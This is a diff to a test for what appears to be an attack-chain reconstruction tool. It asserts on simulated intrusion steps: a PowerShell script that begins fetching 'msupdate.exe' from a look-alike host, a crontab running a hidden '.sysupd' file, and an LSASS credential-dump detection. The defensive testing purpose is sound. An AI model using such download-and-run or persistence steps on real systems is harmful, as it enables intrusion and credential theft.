@@ -74,7 +74,17 @@ def test_auto_chain_finds_every_step_and_the_root_cause(case: Case, truth: dict[
     assert chain.point_of_interest["rule_title"] == "Lsass Memory Dump via Comsvcs DLL"
     precision, recall, missed = score(chain, truth)
     assert (precision, recall, missed) == (1.0, 1.0, [])
-    assert len(chain.steps) == 25  # one screen
+    assert len(chain.steps) == 28  # one screen
+    script = next(s for s in chain.steps if s.action == "ran script")
+    assert (script.actor, [e["source_record"] for e in script.evidence]) == ("powershell.exe", [167])
+    assert script.object.startswith("script $u='http://micros0ft-cdn.example.net/dl/msupdate.exe'")
+    cron = next(s for s in chain.steps if s.actor == "bob's crontab")
+    assert (cron.action, cron.object, cron.count, cron.time) == (
+        "ran",
+        ".sysupd",
+        17,
+        "2026-03-10T11:10:01.000000Z",
+    )
     opened = next(s for s in chain.steps if s.object == "WINWORD.EXE")
     assert (opened.actor, opened.action) == ("OUTLOOK.EXE", "spawned")
     assert opened.text.endswith("(opening invoice.docm)")
